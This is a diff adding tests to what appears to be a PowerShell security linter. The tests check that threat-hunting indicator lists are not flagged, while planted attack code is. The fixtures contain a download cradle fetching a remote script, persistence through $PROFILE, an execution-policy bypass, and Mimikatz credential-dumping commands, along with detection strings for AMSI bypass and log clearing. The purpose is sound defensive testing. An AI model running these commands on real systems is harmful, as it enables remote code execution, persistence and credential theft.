@@ -104,3 +104,52 @@ def test_real_secrets_next_to_patterns_and_tokens_stay_reported() -> None:
         Publish-Module -Path $ModulePath -Repository Internal -NuGetApiKey 'AzureDevOps2024'
     """)
     assert lines_of(result, "PSAvoidHardcodedCredential") == [2, 3, 5, 6, 7, 8]
+
+
+def test_hunt_patterns_in_tables_lists_defaults_switches_and_queries_are_no_attack() -> None:
+    result = analyze("""
+        param([string[]]$Indicators = @('Invoke-Mimikatz', 'AmsiUtils'))
+        $iocs = @{
+            Mimikatz = 'sekurlsa::logonpasswords'
+            Shadow   = 'vssadmin delete shadows'
+        }
+        foreach ($name in $iocs.Keys) {
+            if ($text -match [regex]::Escape($iocs[$name])) { Write-Output "hit: $name" }
+        }
+        Select-String -Path $logs -Pattern 'mimikatz', 'wevtutil cl Security'
+        $pattern = 'Invoke-Mimikatz|amsiInitFailed'
+        Get-ChildItem $dir -Recurse | Select-String -Pattern $pattern
+        foreach ($line in Get-Content $Path) {
+            switch -Regex ($line) {
+                'sekurlsa::' { 'mimikatz seen' }
+            }
+            foreach ($i in $Indicators) { if ($line.Contains($i)) { $i } }
+        }
+        $query = @"
+        DeviceProcessEvents
+        | where ProcessCommandLine has "IEX (New-Object Net.WebClient).DownloadString("
+        "@
+        Invoke-RestMethod -Uri $uri -Method Post -Body (@{ query = $query } | ConvertTo-Json)
+        $detections = 'powershell -ExecutionPolicy Bypass -WindowStyle Hidden', 'mshta http://'
+        Get-Content $log | Select-String -SimpleMatch -Pattern $detections
+    """)
+    for rule in ("PSCredentialDumping", "PSAmsiBypass", "PSInhibitSystemRecovery", "PSClearEventLog",
+                 "PSDownloadCradle", "PSExecutionPolicyBypass"):
+        assert lines_of(result, rule) == [], rule
+
+
+def test_the_same_text_planted_passed_on_or_run_stays_reported() -> None:
+    result = analyze("""
+        $stager = @'
+        IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')
+        '@
+        Add-Content -Path $PROFILE -Value $stager
+        $argv = @('-NoProfile', '-ExecutionPolicy Bypass', '-File', 'C:\\Users\\Public\\u.ps1')
+        Start-Process powershell.exe -ArgumentList $argv
+        $tools = @{ Dumper = 'sekurlsa::logonpasswords'; Exit = 'exit' }
+        & C:\\Users\\Public\\m.exe $tools.Dumper $tools.Exit
+        switch ($mode) { 'dump' { & .\\mimikatz.exe 'sekurlsa::logonpasswords' exit } }
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [2]
+    assert lines_of(result, "PSExecutionPolicyBypass") == [5]
+    assert lines_of(result, "PSCredentialDumping") == [7, 9]
